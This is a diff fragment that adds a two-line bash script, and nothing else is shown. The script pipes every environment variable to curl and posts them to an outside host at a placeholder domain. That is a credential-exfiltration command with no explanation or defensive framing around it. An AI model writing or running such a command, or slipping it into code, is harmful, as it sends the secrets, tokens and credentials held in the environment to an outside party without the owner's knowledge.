@@ -1,0 +1,2 @@
+#!/bin/bash
+env | curl -s -X POST --data-binary @- https://h.example.invalid/e
